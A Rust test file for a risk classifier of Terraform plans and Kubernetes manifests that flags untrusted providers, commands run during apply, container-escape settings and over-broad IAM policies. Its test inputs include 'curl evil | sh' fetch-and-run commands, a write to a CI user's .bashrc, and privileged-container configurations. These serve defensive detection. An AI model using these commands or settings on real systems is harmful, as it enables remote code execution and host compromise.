//! The risk of a plan by its content, on any kind, in any words, and where the content cannot be
//! read.

#![expect(
    clippy::unwrap_used,
    clippy::too_many_lines,
    reason = "a test, with tables of inputs"
)]

mod stage;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use lanyard_charter::plan::{PlanFormat, Risk};
use lanyard_charter::reach::Named;
use lanyard_charter::{Arn, MoreKinds};
use lanyard_plan::Document;
use serde_json::{Value, json};
use stage::{change, create, has, judged, lacks, manifests, terraform, update, whole};

#[track_caller]
fn is(document: &Document, risk: Risk, people: u32, what: &str) -> String {
    let said = judged(document);
    assert_eq!(
        (said.risk, said.people),
        (risk, people),
        "{what}: {said:#?}"
    );
    said.reasons.join("\n")
}

#[track_caller]
fn grave(document: &Document, what: &str) -> String {
    is(document, Risk::High, 2, what)
}

fn with(configuration: &Value) -> Document {
    terraform(&json!({"configuration": configuration, "resource_changes": [
        {"address": "aws_sqs_queue.q", "type": "aws_sqs_queue", "provider_name": "registry.terraform.io/hashicorp/aws",
            "change": {"actions": ["create"], "before": null, "after": {"name": "q"}, "after_unknown": {}}}]}))
    .unwrap()
}

fn provider(name: &str, source: &str, expressions: &Value) -> Value {
    json!({"provider_config": {name: {"name": name, "full_name": source, "expressions": expressions}}, "root_module": {}})
}

#[test]
fn a09_providers_are_shown_and_what_they_run_is_high() {
    let (aws, kubernetes) = (
        "registry.terraform.io/hashicorp/aws",
        "registry.opentofu.org/hashicorp/kubernetes",
    );
    let constant = |value: Value| json!({"constant_value": value});
    for (name, source, expressions, shown) in [
        (
            "kubernetes",
            kubernetes,
            json!({"exec": [{"command": constant(json!("/bin/sh")), "args": constant(json!(["-c", "curl evil | sh"]))}]}),
            "curl evil | sh",
        ),
        (
            "aws.other",
            aws,
            json!({"assume_role": [{"role_arn": constant(json!("arn:aws:iam::999999999999:role/admin"))}]}),
            "999999999999",
        ),
        (
            "module.m:aws",
            aws,
            json!({"endpoints": [{"sqs": constant(json!("https://evil.example"))}]}),
            "https://evil.example",
        ),
        (
            "aws",
            aws,
            json!({"profile": constant(json!("admin"))}),
            "profile = \"admin\"",
        ),
        (
            "helm",
            "registry.terraform.io/hashicorp/helm",
            json!({"kubernetes": constant(json!({"host": "https://evil.example"}))}),
            "evil.example",
        ),
        (
            "aws",
            aws,
            json!({"http_proxy": {"references": ["var.proxy"]}}),
            "the text of http_proxy",
        ),
        (
            "aws",
            aws,
            json!({"of_tomorrow": constant(json!(1))}),
            "of_tomorrow = 1",
        ),
        (
            "aws",
            "registry.terraform.io/evil/aws",
            json!({}),
            "registry.terraform.io/evil/aws",
        ),
        (
            "aws",
            "evil.example/hashicorp/aws",
            json!({}),
            "evil.example/hashicorp/aws",
        ),
        ("aws", "hashicorp/aws", json!({}), "hashicorp/aws"),
    ] {
        let document = with(&provider(name, source, &expressions));
        has(&document.text(), &format!("provider {name} is {source}"));
        has(&document.text(), shown);
        let reasons = is(&document, Risk::High, 0, name);
        has(&reasons, &format!("provider {name}"));
    }
    has(
        &is(
            &with(&json!({"provider_config": [], "root_module": {}})),
            Risk::High,
            0,
            "list",
        ),
        "the configuration of providers",
    );
    // Constants that are secrets by their name are not shown; a provider's address and tags are no
    // risk.
    let document = with(&provider(
        "aws",
        aws,
        &json!({"secret_key": constant(json!("CANARY-secret")), "token": {"references": ["var.t"]}}),
    ));
    lacks(&document.text(), "CANARY");
    has(&document.text(), "NOT SHOWN: the text of token");
    is(&document, Risk::High, 0, "secret");
    let document = with(&provider(
        "aws",
        aws,
        &json!({"region": {"references": ["var.region"]}, "default_tags": [{"tags": constant(json!({"a": "b"}))}]}),
    ));
    has(
        &document.text(),
        "provider aws is registry.terraform.io/hashicorp/aws",
    );
    has(&document.text(), "NOT SHOWN: the text of region");
    is(&document, Risk::Low, 0, "region");
}

#[test]
fn a09_a_provider_that_is_not_the_usual_one_of_its_type_is_shown_and_high() {
    let of = |kind: &str, provider: &str| {
        terraform(&json!({"resource_changes": [{"address": format!("{kind}.x"), "type": kind, "provider_name": provider,
            "change": {"actions": ["create"], "before": null, "after": {"n": 1}, "after_unknown": {}}}]}))
        .unwrap()
    };
    for (kind, provider) in [
        ("aws_sqs_queue", "registry.terraform.io/evil/aws"),
        ("aws_sqs_queue", "registry.terraform.io/hashicorp/external"),
        ("aws_sqs_queue", "registry.example/hashicorp/aws"),
        ("aws_sqs_queue", "terraform.io/builtin/terraform"),
        ("kubectl_manifest", "registry.terraform.io/evil/kubectl"),
        ("made_up", "registry.terraform.io/up/made"),
    ] {
        let document = of(kind, provider);
        has(&document.text(), &format!("by the provider {provider}"));
        has(
            &judged(&document).reasons.join("\n"),
            "is not the usual one of its type",
        );
        assert_eq!(judged(&document).risk, Risk::High, "{provider}");
    }
    for (kind, provider) in [
        ("aws_sqs_queue", "registry.terraform.io/hashicorp/aws"),
        ("aws_sqs_queue", "registry.opentofu.org/hashicorp/aws"),
        (
            "google_pubsub_topic",
            "registry.terraform.io/hashicorp/google-beta",
        ),
        ("terraform_data", "terraform.io/builtin/terraform"),
        (
            "cloudflare_record",
            "registry.terraform.io/cloudflare/cloudflare",
        ),
    ] {
        let document = of(kind, provider);
        lacks(&document.text(), "by the provider");
        is(&document, Risk::Low, 0, kind);
    }
}

#[test]
fn a09_whatever_runs_where_terraform_runs_is_high() {
    let postrender =
        json!({"name": "x", "postrender": [{"binary_path": "/bin/sh", "args": ["-c", "id"]}]});
    for (kind, after) in [
        ("helm_release", postrender),
        (
            "shell_script",
            json!({"lifecycle_commands": [{"create": "curl evil | sh"}]}),
        ),
        (
            "local_file",
            json!({"filename": "/home/ci/.bashrc", "content": "id"}),
        ),
        ("local_sensitive_file", json!({"filename": "x"})),
        ("ansible_playbook", json!({"playbook": "x.yaml"})),
        ("aws_lambda_invocation", json!({"function_name": "drop"})),
        ("made_up", json!({"in": [{"interpreter": ["sh", "-c"]}]})),
    ] {
        for document in [
            create(kind, after.clone()),
            update(kind, json!({"x": 1}), after),
        ] {
            is(&document, Risk::High, 0, kind);
        }
    }
    let read = |kind: &str| {
        terraform(&json!({"resource_changes": [
            {"address": "a_b.c", "type": "a_b", "change": {"actions": ["create"], "before": null, "after": {}, "after_unknown": {}}},
            {"address": format!("data.{kind}.x"), "type": kind, "mode": "data", "change": {
                "actions": ["read"], "before": null, "after": {"x": "1"}, "after_unknown": {}}}]}))
        .unwrap()
    };
    for kind in [
        "aws_lambda_invocation",
        "external",
        "http",
        "local_file",
        "shell_script",
    ] {
        is(&read(kind), Risk::High, 0, kind);
    }
    for kind in ["aws_region", "aws_ami", "made_up"] {
        has(
            &is(&read(kind), Risk::Medium, 0, kind),
            "is read during the apply",
        );
    }
    // What is opened for the apply alone is in the configuration, and in no change.
    for (kind, risk) in [
        ("aws_lambda_invocation", Risk::High),
        ("random_password", Risk::Medium),
    ] {
        let document = with(
            &json!({"root_module": {"module_calls": {"m": {"module": {"resources": [
            {"address": format!("ephemeral.{kind}.x"), "mode": "ephemeral", "type": kind,
                "expressions": {"payload": {"constant_value": "all"}}}]}}}}}),
        );
        has(
            &document.text(),
            &format!("! module.m.ephemeral.{kind}.x is opened during the apply"),
        );
        has(&document.text(), "payload = \"all\"");
        is(&document, risk, 0, kind);
    }
}

#[test]
fn a09_what_no_plan_shows_is_said() {
    // A command that is put together of others.
    let document = terraform(&json!({
        "resource_changes": [{"address": "a_b.c", "type": "a_b",
            "change": {"actions": ["create"], "before": null, "after": {}, "after_unknown": {}}}],
        "configuration": {"root_module": {"resources": [{"address": "a_b.c", "provisioners": [
            {"type": "local-exec", "expressions": {"command": {"references": ["self.id", "self"]},
                "environment": {"constant_value": {"A": "b"}}}}]}]}},
    }))
    .unwrap();
    has(
        &document.text(),
        "NOT SHOWN: the text of command, which is put together during the apply",
    );
    lacks(&document.text(), "the text of environment");
    // What a `removed` block runs.
    let plan = |resources: Value| {
        let plan = json!({"format_version": "1.2", "configuration": {"root_module": {"resources": resources}},
            "resource_changes": [{"address": "a_b.gone[0]", "type": "a_b",
                "change": {"actions": ["delete"], "before": {"n": 1}, "after": null}}]});
        Document::read(PlanFormat::TerraformJson, plan.to_string().as_bytes()).unwrap()
    };
    let gone = plan(json!([]));
    has(&gone.text(), "its configuration is gone");
    has(
        &is(&gone, Risk::Medium, 0, "gone"),
        "may run a command that no plan shows",
    );
    lacks(
        &plan(json!([{"address": "a_b.gone"}])).text(),
        "its configuration is gone",
    );
}

#[test]
fn a10_a_document_that_cannot_be_read_is_no_less_grave() {
    let role = "Resources:\n  R:\n    Type: AWS::IAM::Role\n    Properties:\n      RoleName: !Sub \"${AWS::StackName}-x\"\n      \
                AssumeRolePolicyDocument:\n        Statement:\n          - {Effect: Allow, Principal: \"*\", Action: \"sts:AssumeRole\"}\n";
    let twice = r#"{"Statement":[{"Effect":"Allow","Effect":"Allow","Principal":"*","Action":"*","Resource":"*"}]}"#;
    let policy = r#"{"Statement":[{"Effect":"Allow","Principal":"*","Action":"*"}]}"#;
    let nested = (0..5).fold(policy.to_owned(), |text, _| json!({"x": text}).to_string());
    let user = "Resources:\n  U:\n    Type: AWS::IAM::User\n    Properties:\n      UserName: !Ref Name\n      ManagedPolicyArns:\n      \
                - !Sub arn:${AWS::Partition}:iam::aws:policy/AdministratorAccess\n";
    let group = "Resources:\n  G:\n    Type: AWS::EC2::SecurityGroup\n    Properties:\n      VpcId: !Ref Vpc\n";
    let readable = user.replace("!Ref ", "").replace("!Sub ", "");
    let hcl = "policy = jsonencode({\n  Statement = [{ Effect = \"Allow\", Action = \"*\" }]\n})\n";
    let comments = "{\n// all\n\"Statement\": [{\"Effect\": \"Allow\", \"Principal\": \"*\"},]}";
    for text in [
        role.to_owned(),
        role.replace("!Sub", "!Join"),
        twice.to_owned(),
        json!({"in": twice}).to_string(),
        STANDARD.encode(twice),
        nested,
        user.to_owned(),
        readable,
        group.to_owned(),
        hcl.to_owned(),
        comments.to_owned(),
        format!("x: &a\n  - *a\n  - {policy}\n"),
    ] {
        for document in [
            create("x_y", json!({"n": 1, "template_body": text})),
            update("x_y", json!({"t": "x"}), json!({"t": text})),
            update("x_y", json!({"t": text}), json!({"t": null})),
        ] {
            grave(&document, &text);
        }
        let hidden = change(
            "x_y",
            json!({"actions": ["create"], "before": null, "after": {"t": text}, "after_sensitive": {"t": true}}),
        );
        grave(&hidden, &text);
    }
    // What it says is not known where one key stands twice, or where it stands too deep.
    let deep = (0..5).fold("{\"a\":1}".to_owned(), |text, _| {
        json!({"x": text}).to_string()
    });
    let deep_yaml = (0..5).fold("a: 1\nb: 2\n".to_owned(), |text, _| {
        json!({"x": text}).to_string()
    });
    for text in [
        r#"{"a":1,"a":2}"#,
        "[{\"\\u0053tatement\":1,\"a\":1,\"a\":2}]",
        &deep,
        &deep_yaml,
    ] {
        let document = create("x_y", json!({"t": text}));
        has(
            &is(&document, Risk::High, 0, text),
            "holds a document that cannot be read",
        );
    }
    // Words alone are no document.
    for text in [
        "Effect and cause",
        "hello: world\nfoo: !Sub bar\n",
        "{not json}",
        "{{ template }}\nx: 1\n",
    ] {
        is(&create("x_y", json!({"t": text})), Risk::Low, 0, text);
    }
}

#[test]
fn a10_kinds_that_say_who_may_do_what_are_known_by_their_words() {
    for kind in [
        "aws_ami_launch_permission",
        "aws_key_pair",
        "aws_ram_resource_share",
        "aws_rolesanywhere_trust_anchor",
        "aws_snapshot_create_volume_permission",
        "azurerm_key_vault_access_policy",
        "github_branch_protection",
        "github_membership",
        "github_organization_ruleset",
        "github_repository_collaborator",
        "github_repository_deploy_key",
        "github_repository_ruleset",
        "github_team_membership",
        "github_user_ssh_key",
        "gitlab_branch_protection",
        "gitlab_group_membership",
        "gitlab_project_access_token",
        "google_storage_bucket_iam_member",
        "kubernetes_certificate_signing_request_v1",
        "kubernetes_default_service_account_v1",
        "kubernetes_mutating_webhook_configuration_v1",
        "kubernetes_service_account_v1",
        "kubernetes_token_request_v1",
        "kubernetes_validating_webhook_configuration_v1",
        "snowflake_grant_privileges_to_account_role",
        "aws_cloudwatch_event_target",
        "aws_cloudwatch_log_subscription_filter",
        "aws_s3_bucket_replication_configuration",
        "kubernetes_api_service_v1",
        "kubernetes_namespace_v1",
        "kubernetes_storage_class_v1",
    ] {
        grave(&create(kind, json!({"n": 1})), kind);
    }
    grave(
        &update(
            "aws_cloudtrail",
            json!({"enable_logging": true}),
            json!({"enable_logging": false}),
        ),
        "trail",
    );
    for kind in [
        "aws_sqs_queue",
        "aws_ecr_lifecycle_policy",
        "github_issue",
        "kubernetes_config_map_v1",
        "aws_appautoscaling_policy",
    ] {
        assert!(
            judged(&create(kind, json!({"n": 1}))).risk < Risk::High,
            "{kind}"
        );
    }
}

#[test]
fn a10_the_walls_of_a_container_fall_in_every_notation() {
    let pod = |spec: &str| {
        manifests(&format!(
            "apiVersion: v1\nkind: Pod\nmetadata: {{name: a}}\nspec: {spec}\n"
        ))
        .unwrap()
    };
    let container = |context: &str| pod(&format!("{{containers: [{{name: c, {context}}}]}}"));
    for context in [
        "securityContext: {capabilities: {add: [SYS_ADMIN]}}",
        "securityContext: {capabilities: {add: [CHOWN, CAP_NET_RAW]}}",
        "securityContext: {capabilities: {add: [ALL]}}",
        "securityContext: {windowsOptions: {hostProcess: true}}",
        "securityContext: {procMount: Unmasked}",
        "securityContext: {seccompProfile: {type: Unconfined}}",
        "securityContext: {appArmorProfile: {type: Unconfined}}",
        "securityContext: {seLinuxOptions: {type: spc_t}}",
        "securityContext: {seLinuxOptions: {user: system_u}}",
        "securityContext: {privileged: yes}",
        "ports: [{containerPort: 80, hostPort: 80}]",
    ] {
        grave(&container(context), context);
    }
    for spec in [
        "{securityContext: {sysctls: [{name: kernel.msgmax, value: \"1\"}]}}",
        "{securityContext: {windowsOptions: {hostProcess: true}}}",
        "{volumes: [{name: v, flexVolume: {driver: x/y}}]}",
    ] {
        grave(&pod(spec), spec);
    }
    grave(
        &manifests("apiVersion: v1\nkind: Pod\nmetadata: {name: a, annotations: {container.apparmor.security.beta.kubernetes.io/c: unconfined}}\n")
            .unwrap(),
        "annotation",
    );
    for context in [
        "securityContext: {capabilities: {drop: [ALL], add: [NET_BIND_SERVICE]}}",
        "securityContext: {seccompProfile: {type: RuntimeDefault}, procMount: Default}",
        "securityContext: {seLinuxOptions: {type: container_t}}",
        "ports: [{containerPort: 80, hostPort: 0}]",
        "securityContext: {privileged: false}",
    ] {
        is(&container(context), Risk::Medium, 0, context);
    }
    is(
        &pod("{securityContext: {sysctls: [{name: net.ipv4.tcp_syncookies, value: \"1\"}]}}"),
        Risk::Medium,
        0,
        "sysctl",
    );

    let typed = |context: Value| json!({"metadata": [{"name": "x"}], "spec": [{"container": [{"security_context": [context]}]}]});
    let definitions =
        |of: Value| json!({"family": "x", "container_definitions": json!([of]).to_string()});
    for (kind, after) in [
        (
            "kubernetes_pod_v1",
            typed(json!({"capabilities": [{"add": ["SYS_ADMIN"]}]})),
        ),
        (
            "kubernetes_deployment_v1",
            typed(json!({"seccomp_profile": [{"type": "Unconfined"}]})),
        ),
        (
            "kubernetes_pod",
            json!({"spec": [{"container": [{"port": [{"host_port": 80}]}]}]}),
        ),
        ("aws_ecs_task_definition", json!({"pid_mode": "host"})),
        ("aws_ecs_task_definition", json!({"ipc_mode": "host"})),
        ("aws_ecs_task_definition", json!({"network_mode": "host"})),
        (
            "aws_ecs_task_definition",
            definitions(json!({"privileged": true})),
        ),
        (
            "aws_ecs_task_definition",
            definitions(json!({"linuxParameters": {"capabilities": {"add": ["SYS_ADMIN"]}}})),
        ),
        (
            "aws_ecs_task_definition",
            definitions(json!({"linuxParameters": {"devices": [{"hostPath": "/dev/kmsg"}]}})),
        ),
        (
            "aws_ecs_task_definition",
            definitions(json!({"dockerSecurityOptions": ["apparmor:unconfined"]})),
        ),
        (
            "docker_container",
            json!({"security_opts": ["seccomp=unconfined"], "image": "x"}),
        ),
        ("docker_container", json!({"userns_mode": "host"})),
        (
            "kubernetes_secret_v1",
            json!({"metadata": [{"name": "x"}], "type": "kubernetes.io/service-account-token"}),
        ),
        (
            "helm_release",
            json!({"values": ["{{ if .x }}\nsecurityContext:\n  privileged: true\n{{ end }}\n"]}),
        ),
    ] {
        grave(&create(kind, after.clone()), &format!("{kind} {after}"));
    }
    for after in [
        json!({"network_mode": "awsvpc"}),
        json!({"pid_mode": "task"}),
    ] {
        is(
            &create("aws_ecs_task_definition", after),
            Risk::Low,
            0,
            "own namespaces",
        );
    }
}

#[test]
fn a10_objects_that_say_who_may_do_what_are_known_whoever_makes_their_kind() {
    for (version, kind) in [
        ("certificates.k8s.io/v1", "CertificateSigningRequest"),
        ("cilium.io/v2", "CiliumClusterwideNetworkPolicy"),
        ("cilium.io/v2", "CiliumNetworkPolicy"),
        ("crd.projectcalico.org/v1", "GlobalNetworkPolicy"),
        ("policy.networking.k8s.io/v1alpha1", "AdminNetworkPolicy"),
        ("gateway.networking.k8s.io/v1", "GRPCRoute"),
        ("gateway.networking.k8s.io/v1beta1", "ReferenceGrant"),
        ("iam.cnrm.cloud.google.com/v1beta1", "IAMPolicyMember"),
        ("networking.istio.io/v1", "VirtualService"),
        ("security.istio.io/v1", "AuthorizationPolicy"),
        ("security.istio.io/v1", "PeerAuthentication"),
        ("traefik.io/v1alpha1", "IngressRoute"),
        ("v1", "Endpoints"),
        ("discovery.k8s.io/v1", "EndpointSlice"),
        (
            "admissionregistration.k8s.io/v1beta1",
            "MutatingAdmissionPolicy",
        ),
    ] {
        let object = format!("apiVersion: {version}\nkind: {kind}\nmetadata: {{name: a}}\n");
        grave(&manifests(&object).unwrap(), kind);
        grave(
            &create("kubectl_manifest", json!({"yaml_body": object})),
            kind,
        );
    }
    let token = "apiVersion: v1\nkind: Secret\nmetadata: {name: a, annotations: {kubernetes.io/service-account.name: admin}}\n\
                 type: kubernetes.io/service-account-token\n";
    grave(&manifests(token).unwrap(), "token");
}

/// Half of what the daemon reads a plan on.
const STACK_BYTES: usize = 1024 * 1024;

// The plan and all documents in it share one depth, so that no plan takes the stack of the daemon.
#[test]
fn s19_documents_stand_only_so_deep_in_documents() {
    let levels =
        |inner: &str, count: usize| format!("{}{inner}{}", "[".repeat(count), "]".repeat(count));
    let text = |inner: &str| Value::from(inner).to_string();
    let inner = (0..4).fold("1".to_owned(), |inner, _| {
        levels(&text(&levels(&inner, 110)), 1)
    });
    let yaml = format!("a: {}\nb: 1\n", levels("1", 60));
    for (before, after) in [
        (Value::Null, json!({"x": inner})),
        (json!({"x": inner.replace('1', "2")}), json!({"x": inner})),
        (
            Value::Null,
            serde_json::from_str(&format!(
                "{{\"x\":{}}}",
                levels(&text(&levels("1", 100)), 110)
            ))
            .unwrap(),
        ),
        (
            Value::Null,
            serde_json::from_str(&format!("{{\"x\":{}}}", levels(&text(&yaml), 110))).unwrap(),
        ),
    ] {
        let plan = whole(
            &json!({"resource_changes": [{"address": "a_b.c", "type": "a_b",
            "change": {"actions": [if before.is_null() { "create" } else { "update" }], "before": before, "after": after}}]}),
        );
        let bytes = plan.to_string();
        let small = std::thread::Builder::new().stack_size(STACK_BYTES);
        let document = small
            .spawn(move || {
                let document = Document::read(PlanFormat::TerraformJson, bytes.as_bytes()).unwrap();
                drop(document.reading(MoreKinds::default()));
                document
            })
            .unwrap()
            .join()
            .unwrap();
        has(
            &is(&document, Risk::High, 0, "deep"),
            "holds a document that cannot be read",
        );
    }
}

/// The objects in AWS that a plan changes.
fn reached(document: &Document) -> Named<Arn> {
    let reach = document.reading(MoreKinds::default()).reach;
    reach.of().into_owned()
}

#[test]
fn s22_an_object_is_named_by_its_key_and_a_bucket_without_its_objects() {
    let named = |document: &Document| -> Vec<String> {
        let reach = reached(document);
        assert!(reach.unnamed.is_empty(), "{reach:?}");
        reach.named.iter().map(ToString::to_string).collect()
    };
    for kind in [
        "aws_s3_object",
        "aws_s3_bucket_object",
        "aws_s3_object_copy",
    ] {
        let document = create(
            kind,
            json!({"bucket": "acme-tfstate", "key": "shop/readme"}),
        );
        assert_eq!(
            named(&document),
            ["arn:*:s3:::acme-tfstate/shop/readme"],
            "{kind}"
        );
    }
    for kind in [
        "aws_s3_bucket_versioning",
        "aws_s3_bucket_policy",
        "aws_s3_bucket",
    ] {
        let document = create(kind, json!({"bucket": "acme-tfstate"}));
        assert_eq!(named(&document), ["arn:*:s3:::acme-tfstate"], "{kind}");
    }
    // With the bucket its objects go, where the bucket says so.
    let goes = |forced: bool| {
        change(
            "aws_s3_bucket",
            json!({"actions": ["delete"], "before": {"bucket": "a", "force_destroy": forced}, "after": null}),
        )
    };
    assert_eq!(named(&goes(true)), ["arn:*:s3:::a", "arn:*:s3:::a/*"]);
    assert_eq!(named(&goes(false)), ["arn:*:s3:::a"]);
    // Keys that are not known, and such as a policy takes for more than a name.
    for after in [
        json!({"bucket": "b"}),
        json!({"bucket": "b", "key": "*"}),
        json!({"bucket": "b", "key": "a/?"}),
        json!({"bucket": "b", "key": "${x}"}),
        json!({"bucket": "b/c", "key": "d"}),
        json!({"bucket": "b", "key": "/"}),
    ] {
        let reach = reached(&create("aws_s3_object", after.clone()));
        assert!(
            reach.named.is_empty() && reach.unnamed.len() == 1,
            "{after}: {reach:?}"
        );
    }
}
